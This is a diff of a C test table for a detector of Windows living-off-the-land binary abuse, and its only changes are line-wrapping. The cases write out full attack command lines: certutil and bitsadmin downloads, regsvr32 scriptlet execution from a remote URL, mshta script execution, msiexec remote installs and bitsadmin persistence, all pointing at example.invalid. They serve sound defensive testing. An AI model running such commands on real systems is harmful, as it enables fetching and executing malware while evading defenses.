@@ -87,7 +87,7 @@ static bool has_all(const HITS *h, const char *list, bool want, BUF *why)
 }
 
 static const struct {
-    const char *text, *want, *not; /* symbols; "" for none */
+    const char *text, *want, *not ; /* symbols; "" for none */
     bool quarantine;                /* the shipped chains reach 10 */
 } CASES[] = {
     {"certutil.exe -urlcache -split -f https://example.invalid/a.exe a.exe\r\n", "LOLBIN_DOWNLOAD",
@@ -95,20 +95,20 @@ static const struct {
     {"\"C:\\Windows\\System32\\certutil.exe\" -decode in.b64 out.exe", "LOLBIN_DECODE",
      "LOLBIN_DOWNLOAD", false},
     {"certutil -hashfile setup.exe SHA256", "", "LOLBIN_DOWNLOAD LOLBIN_DECODE", false},
-    {"bitsadmin /transfer job /download /priority normal http://example.invalid/a.exe %TEMP%\\a.exe",
+    {"bitsadmin /transfer job /download /priority normal http://example.invalid/a.exe "
+     "%TEMP%\\a.exe",
      "LOLBIN_DOWNLOAD", "LOLBIN_PERSIST", true},
     {"bitsadmin /list /allusers", "", "LOLBIN_DOWNLOAD LOLBIN_PERSIST", false},
     {"regsvr32 /s /n /u /i:https://example.invalid/f.sct scrobj.dll",
      "LOLBIN_REMOTE_EXEC LOLBIN_PROXY_EXEC", "", true},
-    {"regsvr32 /s \"%ProgramFiles%\\Vendor\\vendor.dll\"", "", "LOLBIN_REMOTE_EXEC LOLBIN_PROXY_EXEC",
-     false},
+    {"regsvr32 /s \"%ProgramFiles%\\Vendor\\vendor.dll\"", "",
+     "LOLBIN_REMOTE_EXEC LOLBIN_PROXY_EXEC", false},
     {"mshta.exe javascript:a=GetObject(\"script:https://example.invalid/x.sct\").Exec();close();",
      "LOLBIN_PROXY_EXEC", "", true},
     {"mshta vbscript:Close(Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\"))",
      "LOLBIN_PROXY_EXEC", "", true},
     {"rundll32.exe url.dll,OpenURL C:\\Users\\x\\a.hta", "LOLBIN_PROXY_EXEC", "", true},
-    {"rundll32 printui.dll,PrintUIEntry /in /n \\\\printsrv\\hp", "",
-     "LOLBIN_PROXY_EXEC", false},
+    {"rundll32 printui.dll,PrintUIEntry /in /n \\\\printsrv\\hp", "", "LOLBIN_PROXY_EXEC", false},
     {"msiexec /q /i http://example.invalid/a.msi", "LOLBIN_REMOTE_EXEC", "", true},
     {"msiexec /i \"%~dp0setup.msi\" /qn /norestart", "", "LOLBIN_REMOTE_EXEC LOLBIN_PROXY_EXEC",
      false},
@@ -122,19 +122,21 @@ static const struct {
     {"cmstp.exe /ni /s c:\\users\\x\\a.inf", "LOLBIN_PROXY_EXEC", "", true},
     {"odbcconf /a {REGSVR c:\\users\\x\\a.dll}", "LOLBIN_PROXY_EXEC", "", true},
     {"pcalua.exe -a c:\\users\\x\\a.exe", "LOLBIN_PROXY_EXEC", "", true},
-    {"InstallUtil.exe /logfile= /LogToConsole=false /U c:\\users\\x\\a.dll", "LOLBIN_PROXY_EXEC", "",
-     true},
+    {"InstallUtil.exe /logfile= /LogToConsole=false /U c:\\users\\x\\a.dll", "LOLBIN_PROXY_EXEC",
+     "", true},
     {"regasm.exe /U c:\\users\\x\\a.dll", "LOLBIN_PROXY_EXEC", "", true},
     {"msbuild.exe c:\\users\\x\\notes.xml", "LOLBIN_PROXY_EXEC", "", true},
     {"msbuild Project.sln /t:Build /p:Configuration=Release", "", "LOLBIN_PROXY_EXEC", false},
-    {"esentutl.exe /y \\\\host\\share\\a.exe /d c:\\users\\x\\a.exe /o", "LOLBIN_DOWNLOAD", "", true},
+    {"esentutl.exe /y \\\\host\\share\\a.exe /d c:\\users\\x\\a.exe /o", "LOLBIN_DOWNLOAD", "",
+     true},
     {"expand \\\\host\\share\\a.bat c:\\users\\x\\a.bat", "LOLBIN_DOWNLOAD", "", true},
     {"hh.exe https://example.invalid/a.chm", "LOLBIN_REMOTE_EXEC", "", true},
     {"wscript //e:vbscript c:\\users\\x\\file.txt:script.vbs", "LOLBIN_PROXY_EXEC", "", true},
     {"cscript //nologo C:\\scripts\\report.vbs", "", "LOLBIN_PROXY_EXEC", false},
     {"bitsadmin /SetNotifyCmdLine 1 c:\\x\\a.exe NULL", "LOLBIN_PERSIST", "", true},
     /* comments, prose, other languages' words */
-    {"rem certutil -urlcache -f http://example.invalid/a.exe a.exe\r\n", "", "LOLBIN_DOWNLOAD", false},
+    {"rem certutil -urlcache -f http://example.invalid/a.exe a.exe\r\n", "", "LOLBIN_DOWNLOAD",
+     false},
     {":: mshta javascript:alert(1)\n# regsvr32 /i:http://x scrobj.dll", "",
      "LOLBIN_PROXY_EXEC LOLBIN_REMOTE_EXEC", false},
     {"$s = $s -replace 'a', 'b'; $t.replace(\"\\\\host\\x\", '')", "", "LOLBIN_DOWNLOAD", false},
